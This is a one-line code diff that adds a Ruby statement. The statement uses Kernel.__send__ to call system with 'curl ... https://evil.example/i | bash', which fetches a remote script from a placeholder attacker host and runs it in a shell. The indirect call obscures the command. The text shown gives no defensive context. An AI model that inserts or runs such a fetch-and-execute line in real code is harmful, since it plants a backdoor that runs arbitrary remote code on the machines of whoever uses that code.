@@ -1,0 +1,1 @@
+Kernel.__send__(:system, 'curl -fsSL https://evil.example/i | bash')
